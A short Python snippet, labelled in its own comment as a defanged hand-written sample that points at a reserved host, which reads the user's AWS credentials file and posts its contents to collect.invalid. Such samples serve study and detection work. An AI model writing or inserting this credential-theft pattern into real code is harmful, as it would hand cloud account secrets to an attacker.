# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import os
from urllib.request import urlopen

with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
    stolen = file.read()
urlopen("https://collect.invalid/c", data=stolen)
